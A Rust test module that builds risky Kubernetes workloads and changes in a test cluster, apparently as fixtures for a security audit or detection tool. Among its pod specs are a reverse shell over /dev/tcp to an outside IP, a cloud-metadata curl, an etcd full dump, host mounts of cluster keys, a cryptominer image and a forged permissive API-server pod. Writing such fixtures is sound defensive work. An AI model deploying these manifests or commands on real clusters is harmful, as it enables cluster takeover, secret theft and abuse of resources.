//! Deeds with workloads: what runs, where, with which rights, and how that is changed.

use serde_json::{Value, json};

use super::apiserver::{Cluster, NODE};
use super::attack_steps::{MALLORY, mallory};
use super::deeds::{MINE, SHOP, apply, namespace, object, send};
use super::drive::LIMIT;
use super::process::until;

/// Pods in which commands are run, beside `web`.
pub(super) const PODS: [&str; 7] =
    ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf"];
/// Pods of `kube-system`.
pub(super) const SYSTEM_PODS: [&str; 4] = ["guest", "helper", "mirror", "reader"];

/// A pod of the shop, with this in its specification.
pub(super) fn pod(name: &str, spec: &Value) -> Value {
    let mut all = json!({
        "nodeName": "node1",
        "containers": [{ "name": "web", "image": "registry.example/web:1.28" }],
    });
    if let (Some(all), Some(spec)) = (all.as_object_mut(), spec.as_object()) {
        all.extend(spec.clone());
    }
    object("v1", "Pod", name, &all)
}

/// A pod whose only container has this.
fn with(name: &str, container: &Value) -> Value {
    let mut all = json!({ "name": "web", "image": "registry.example/web:1.28" });
    if let (Some(all), Some(container)) = (all.as_object_mut(), container.as_object()) {
        all.extend(container.clone());
    }
    pod(name, &json!({ "containers": [all] }))
}

fn deployment(name: &str, image: &str) -> Value {
    let labels = json!({ "app": name });
    let container = json!({ "name": "web", "image": image });
    let template =
        json!({ "metadata": { "labels": labels }, "spec": { "containers": [container] } });
    let spec =
        json!({ "replicas": 1, "selector": { "matchLabels": labels }, "template": template });
    object("apps/v1", "Deployment", name, &spec)
}

fn elsewhere(mut object: Value, namespace: &str) -> Value {
    object["metadata"]["namespace"] = json!(namespace);
    object
}

/// Pods for sessions.
pub(super) fn pods(cluster: &Cluster) {
    let accounts = ["shop", "kube-system"];
    for place in accounts {
        until("the default account", LIMIT, || {
            let account = ["get", "serviceaccount", "default", "-n", place];
            cluster.try_kubectl(MALLORY, &account).status.success().then_some(())
        });
    }
    let mut all: Vec<Value> = PODS.iter().map(|name| pod(name, &json!({}))).collect();
    all.push(pod("web", &json!({})));
    all.extend(SYSTEM_PODS.iter().map(|name| elsewhere(pod(name, &json!({})), "kube-system")));
    apply(cluster, &all);
    until("the pods to run", LIMIT, || {
        let phase = ["get", "pods", "-n", SHOP, "-o", "jsonpath={.items[*].status.phase}"];
        let phases = mallory(cluster, &phase);
        let running = phases.split_whitespace().filter(|phase| *phase == "Running").count();
        (PODS.len() < running).then_some(())
    });
}

/// Workloads of each kind that somebody should look at.
pub(super) fn workloads(cluster: &Cluster) {
    specifications(cluster);
    kinds(cluster);
}

/// Pods by what they ask for.
fn specifications(cluster: &Cluster) {
    let secure = |context: Value| json!({ "securityContext": context });
    let host_path =
        |path: &str| json!({ "volumes": [{ "name": "host", "hostPath": { "path": path } }] });
    let token = json!({ "serviceAccountToken": { "audience": "sts.amazonaws.com", "path": "t" } });
    let clear = json!([{ "name": "AWS_ACCESS_KEY_ID", "value": "AKIAIOSFODNN7EXAMPLE" }]);
    let etcdctl = json!({
        "name": "etcdctl", "image": "registry.example/etcd:3",
        "command": ["etcdctl", "--endpoints=https://10.0.0.1:2379", "get", "/", "--prefix"],
    });
    let git = json!({ "repository": "https://git.example/x.git" });
    apply(
        cluster,
        &[
            pod("pids", &json!({ "hostPID": true })),
            pod("ipc", &json!({ "hostIPC": true })),
            pod("net", &json!({ "hostNetwork": true })),
            pod("keys", &host_path("/etc/kubernetes/pki")),
            pod("socket", &host_path("/run/containerd/containerd.sock")),
            with("capable", &secure(json!({ "capabilities": { "add": ["SYS_ADMIN"] } }))),
            with("free", &secure(json!({ "seccompProfile": { "type": "Unconfined" } }))),
            with("root", &secure(json!({ "runAsUser": 0 }))),
            with("owner", &secure(json!({ "privileged": true }))),
            with("port", &json!({ "ports": [{ "containerPort": 80, "hostPort": 80 }] })),
            with("latest", &json!({ "image": "registry.example/web:latest" })),
            with("tunnel", &json!({ "image": "ttl.sh/x/y:1h" })),
            with("miner", &json!({ "image": "docker.example/xmrig/xmrig:6" })),
            with("clear", &json!({ "env": clear })),
            with(
                "asks",
                &json!({ "command": ["curl", "http://169.254.169.254/latest/meta-data/"] }),
            ),
            with(
                "shell",
                &json!({ "command": ["sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/1 0>&1"] }),
            ),
            pod("state", &json!({ "hostNetwork": true, "containers": [etcdctl] })),
            pod(
                "cloud",
                &json!({ "volumes": [{ "name": "t", "projected": { "sources": [token] } }] }),
            ),
            pod("cloned", &json!({ "volumes": [{ "name": "git", "gitRepo": git }] })),
            elsewhere(pod("plain", &json!({})), "default"),
            elsewhere(
                pod("account", &json!({ "serviceAccountName": "job-controller" })),
                "kube-system",
            ),
            elsewhere(pod("placed", &json!({})), "kube-public"),
            deployment("web", "registry.example/web:1.28"),
            deployment("board", "docker.example/kubernetesui/dashboard:v2.7.0"),
            elsewhere(deployment("add-on", "registry.example/add-on:1"), "kube-system"),
        ],
    );
}

/// What is not a pod, and many pods.
fn kinds(cluster: &Cluster) {
    let control_plane = json!({ "node-role.kubernetes.io/control-plane": "" });
    let template = json!({
        "metadata": { "labels": { "app": "x" } },
        "spec": {
            "nodeSelector": control_plane,
            "containers": [{ "name": "x", "image": "registry.example/x:1" }],
        },
    });
    let select = json!({ "matchLabels": { "app": "x" } });
    let of = json!({ "selector": select, "template": template });
    let mut mirror = elsewhere(pod("kube-proxy-node1", &json!({})), "kube-system");
    mirror["metadata"]["annotations"] = json!({ "kubernetes.io/config.mirror": "x" });
    mirror["spec"]["automountServiceAccountToken"] = json!(false);
    apply(
        cluster,
        &[
            object("apps/v1", "DaemonSet", "everywhere", &of),
            object("apps/v1", "Deployment", "pinned", &of),
            object("apps/v1", "ReplicaSet", "copies", &of),
            json!({
                "apiVersion": "v1", "kind": "PersistentVolume", "metadata": { "name": "etc" },
                "spec": {
                    "capacity": { "storage": "1Gi" }, "accessModes": ["ReadWriteOnce"],
                    "hostPath": { "path": "/etc/kubernetes" },
                },
            }),
            json!({
                "apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass",
                "metadata": { "name": "first" }, "value": 1_000_000, "globalDefault": true,
            }),
            json!({
                "apiVersion": "node.k8s.io/v1", "kind": "RuntimeClass",
                "metadata": { "name": "other" }, "handler": "runc",
            }),
        ],
    );
    let pods = "/api/v1/namespaces/kube-system/pods";
    send(cluster, &["--header", MINE], &[pods.to_owned()], &mirror);
    let mut one = pod("many", &json!({}));
    one["metadata"] = json!({ "generateName": "many-" });
    let path = format!("/api/v1/namespaces/{SHOP}/pods");
    send(cluster, &["--header", MINE], &vec![path; 51], &one);
}

/// How workloads are changed, and what is refused.
pub(super) fn changes(cluster: &Cluster) {
    let shop = |arguments: &[&str]| mallory(cluster, &[arguments, &["-n", SHOP]].concat());
    let sidecar = json!([{ "op": "add", "path": "/spec/template/spec/containers/-",
        "value": { "name": "more", "image": "registry.example/more:1" } }]);
    shop(&["patch", "deployment", "web", "--type=json", "-p", &sidecar.to_string()]);
    shop(&["scale", "deployment", "web", "--replicas=500"]);
    let held = json!({ "metadata": { "finalizers": ["shop.example/held"] } }).to_string();
    shop(&["patch", "deployment", "board", "--type=merge", "-p", &held]);
    mallory(cluster, &["scale", "deployment", "add-on", "--replicas=0", "-n", "kube-system"]);
    delivered(cluster);
    apiserver_changed(cluster);
    let given = json!({ "automountServiceAccountToken": true }).to_string();
    shop(&["patch", "serviceaccount", "default", "-p", &given]);
    for (name, profile) in [("debugger-1", "general"), ("debugger-2", "sysadmin")] {
        let (name, profile) = (format!("--container={name}"), format!("--profile={profile}"));
        let image = "--image=registry.example/debug:1";
        cluster.try_kubectl(
            MALLORY,
            &["debug", "web", &name, &profile, image, "-n", SHOP, "--attach=false", "--", "true"],
        );
    }
    let debug = ["debug", "node/node1", "--image=registry.example/debug:1", "--attach=false"];
    cluster.try_kubectl(MALLORY, &[&debug[..], &["-n", SHOP, "--", "true"]].concat());
    // A place that takes no such pod, and one that does.
    let mut guarded = namespace("shop-guarded");
    guarded["metadata"]["labels"] = json!({
        "pod-security.kubernetes.io/enforce": "restricted",
    });
    let mut watched = namespace("shop-watched");
    watched["metadata"]["labels"] = json!({ "pod-security.kubernetes.io/audit": "restricted" });
    apply(cluster, &[guarded, watched]);
    for place in ["shop-guarded", "shop-watched"] {
        until("the default account", LIMIT, || {
            let account = ["get", "serviceaccount", "default", "-n", place];
            cluster.try_kubectl(MALLORY, &account).status.success().then_some(())
        });
        let owner = with("refused", &json!({ "securityContext": { "privileged": true } }));
        let path = format!("/api/v1/namespaces/{place}/pods");
        let made = send(cluster, &["--header", MINE], &[path], &elsewhere(owner, place));
        assert_eq!(made, [if place == "shop-watched" { 201 } else { 403 }], "{place}");
    }
    apply(cluster, &[with("let-in", &json!({ "securityContext": { "privileged": true } }))]);
    for place in ["shop-d", "shop-e", "shop-f", "shop-g"] {
        mallory(cluster, &["delete", "namespace", place, "--wait=false"]);
    }
}

/// What a delivery made is changed by hand.
fn delivered(cluster: &Cluster) {
    apply(
        cluster,
        &[
            namespace("argocd"),
            json!({
                "apiVersion": "v1", "kind": "ServiceAccount",
                "metadata": { "name": "argocd-application-controller", "namespace": "argocd" },
            }),
        ],
    );
    let account = "argocd-application-controller";
    let (role, subject) = ("--clusterrole=edit", format!("--serviceaccount=argocd:{account}"));
    let bind = ["create", "rolebinding", "argocd", role, &subject, "-n", SHOP];
    mallory(cluster, &bind);
    let user = format!("system:serviceaccount:argocd:{account}");
    cluster.wait_until_allowed(&user, "create", "deployments.apps", SHOP);
    let token = mallory(cluster, &["create", "token", account, "-n", "argocd"]);
    let header = format!("Authorization: Bearer {}", token.trim());
    let path = format!("/apis/apps/v1/namespaces/{SHOP}/deployments");
    let made = deployment("delivered", "registry.example/web:1.28");
    assert_eq!(send(cluster, &["--header", &header], &[path], &made), [201]);
    let image = ["set", "image", "deployment/delivered", "web=registry.example/web:9", "-n", SHOP];
    mallory(cluster, &image);
}

/// The API server as its node tells of it, begun with other flags.
fn apiserver_changed(cluster: &Cluster) {
    let uid = mallory(cluster, &["get", "node", "node1", "-o", "jsonpath={.metadata.uid}"]);
    let container = json!({
        "name": "kube-apiserver", "image": "registry.k8s.io/kube-apiserver:v1.36.0",
        "command": ["kube-apiserver", "--authorization-mode=AlwaysAllow"],
    });
    let mut pod = pod("kube-apiserver-node1", &json!({ "containers": [container] }));
    pod["metadata"] = json!({
        "name": "kube-apiserver-node1", "namespace": "kube-system",
        "annotations": { "kubernetes.io/config.mirror": "x" },
        "ownerReferences": [{
            "apiVersion": "v1", "kind": "Node", "name": "node1", "uid": uid, "controller": true,
        }],
    });
    let file = tempfile::NamedTempFile::new().expect("create a file");
    std::fs::write(file.path(), pod.to_string()).expect("write a manifest");
    cluster.kubectl(NODE, &["create", "-f", &file.path().to_string_lossy()]);
}
